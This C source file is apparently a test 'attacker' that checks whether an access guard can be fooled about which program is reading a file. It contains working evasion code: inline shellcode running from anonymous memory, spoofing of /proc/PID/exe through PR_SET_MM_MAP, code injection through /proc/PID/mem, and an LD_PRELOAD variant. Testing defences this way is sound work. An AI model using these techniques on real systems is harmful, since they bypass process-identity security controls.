/* SPDX-License-Identifier: GPL-3.0-or-later */
/* guard-attacker.c stands for a user's program that wants to pass for a listed one. It reads a file
 * by a few instructions that lie in no file of the system's:
 *   swap FILE PROGRAM   in memory of its own, after it made /proc/PID/exe name PROGRAM
 *   write FILE PROGRAM  written over the code of PROGRAM, which waits in a read(2)
 *   as a library for LD_PRELOAD, FILE in ATTACK_FILE: in memory of its own, the library unmapped
 * Ends with 0 and the file's beginning when it came through, 77 when the open was refused. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/prctl.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/wait.h>
#include <unistd.h>

#define PATH_ROOM 512

/* r12, r13: memory to unmap, r13 = 0: none. r14, r15: what to tell PR_SET_MM_MAP from a child that
 * shares this memory and is root of a user namespace, r14 = 0: nothing. */
__asm__(".section .rodata\n.globl blob_start, blob_path, blob_end\n"
        ".hidden blob_start, blob_path, blob_end\n"
        "blob_start:\n"
        " test %r13, %r13\n jz 1f\n mov $11, %eax\n mov %r12, %rdi\n mov %r13, %rsi\n syscall\n"
        "1: test %r14, %r14\n jz 2f\n"
        " mov $56, %eax\n mov $0x10004111, %edi\n xor %esi, %esi\n xor %edx, %edx\n"
        " xor %r10d, %r10d\n xor %r8d, %r8d\n syscall\n test %eax, %eax\n jnz 2f\n"
        " mov $157, %eax\n mov $35, %edi\n mov $14, %esi\n mov %r14, %rdx\n mov %r15, %r10\n"
        " xor %r8d, %r8d\n syscall\n mov %eax, %edi\n neg %edi\n mov $60, %eax\n syscall\n"
        "2: mov $2, %eax\n lea blob_path(%rip), %rdi\n xor %esi, %esi\n xor %edx, %edx\n syscall\n"
        " test %eax, %eax\n js 3f\n mov %eax, %edi\n xor %eax, %eax\n lea -2048(%rsp), %rsi\n"
        " mov $64, %edx\n syscall\n mov %eax, %edx\n mov $1, %eax\n mov $1, %edi\n syscall\n"
        " xor %edi, %edi\n mov $231, %eax\n syscall\n"
        "3: mov $77, %edi\n mov $231, %eax\n syscall\n"
        "blob_path: .zero 512\nblob_end:\n.text\n");
extern const char blob_start[], blob_path[], blob_end[], __ehdr_start[], _end[];
#pragma GCC visibility push(hidden)
extern const char __ehdr_start[], _end[];
#pragma GCC visibility pop

static size_t blob_for(const char *file, char *into)
{
    size_t len = (size_t)(blob_end - blob_start);
    memcpy(into, blob_start, len);
    snprintf(into + (blob_path - blob_start), PATH_ROOM, "%s", file);
    return len;
}

/* Go on in memory of no file, without the file that this code lies in. */
static _Noreturn void run(const char *file, struct prctl_mm_map *map)
{
    char *code = mmap(NULL, 4096, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS,
                      -1, 0);
    if (code == MAP_FAILED)
        _exit(3);
    blob_for(file, code);
    uintptr_t from = (uintptr_t)__ehdr_start & ~(uintptr_t)4095;
    uintptr_t len = (((uintptr_t)_end + 4095) & ~(uintptr_t)4095) - from;
    __asm__ volatile("mov %0, %%r12\n mov %1, %%r13\n mov %2, %%r14\n mov %3, %%r15\n jmp *%4\n"
                     : : "r"(from), "r"(len), "r"(map), "r"(sizeof *map), "a"(code)
                     : "r12", "r13", "r14", "r15", "memory");
    __builtin_unreachable();
}

#ifdef ATTACK_LIBRARY
__attribute__((constructor)) static void begin(void)
{
    const char *file = getenv("ATTACK_FILE");
    if (file)
        run(file, NULL);
}
#else
static _Noreturn void swap(const char *file, const char *program)
{
    static struct prctl_mm_map on_disk;
    struct prctl_mm_map *map = mmap(NULL, 4096, PROT_READ | PROT_WRITE,
                                    MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    const uint64_t at = (uintptr_t)map;
    on_disk = (struct prctl_mm_map){
        .start_code = at, .end_code = at + 16, .start_data = at, .end_data = at + 16,
        .start_brk = at, .brk = at, .start_stack = at, .arg_start = at, .arg_end = at,
        .env_start = at, .env_end = at, .exe_fd = (uint32_t)open(program, O_RDONLY)};
    *map = on_disk;
    run(file, map);
}

static int overwrite(const char *file, const char *program)
{
    int feed[2], status;
    char path[64], text[256], code[4096];
    unsigned long long at = 0;
    if (pipe(feed) != 0)
        return 3;
    pid_t pid = fork();
    if (pid == 0) {
        dup2(feed[0], 0);
        close(feed[1]);
        execl(program, program, (char *)NULL);
        _exit(3);
    }
    snprintf(path, sizeof path, "/proc/%d/syscall", pid);
    for (int tries = 0; tries < 500 && at == 0; tries++, usleep(10000)) {
        int fd = open(path, O_RDONLY);
        ssize_t n = fd < 0 ? -1 : read(fd, text, sizeof text - 1);
        text[n > 0 ? n : 0] = '\0';
        if (strncmp(text, "0 0x0 ", 6) == 0)
            at = strtoull(strrchr(text, ' '), NULL, 16);
        close(fd);
    }
    /* the registers may hold anything: say first that nothing is to be unmapped or told */
    static const char clear[] = {0x4d, 0x31, (char)0xed, 0x4d, 0x31, (char)0xf6};
    memcpy(code, clear, sizeof clear);
    size_t len = sizeof clear + blob_for(file, code + sizeof clear);
    snprintf(path, sizeof path, "/proc/%d/mem", pid);
    int memory = open(path, O_RDWR);
    if (memory < 0 || pwrite(memory, code, len, (off_t)at) != (ssize_t)len) {
        kill(pid, SIGKILL);
        return 4;
    }
    if (write(feed[1], "x", 1) != 1)
        return 3;
    waitpid(pid, &status, 0);
    return WIFEXITED(status) ? WEXITSTATUS(status) : 5;
}

int main(int count, char **arguments)
{
    if (count != 4)
        return 2;
    if (strcmp(arguments[1], "swap") == 0)
        swap(arguments[2], arguments[3]);
    return overwrite(arguments[2], arguments[3]);
}
#endif
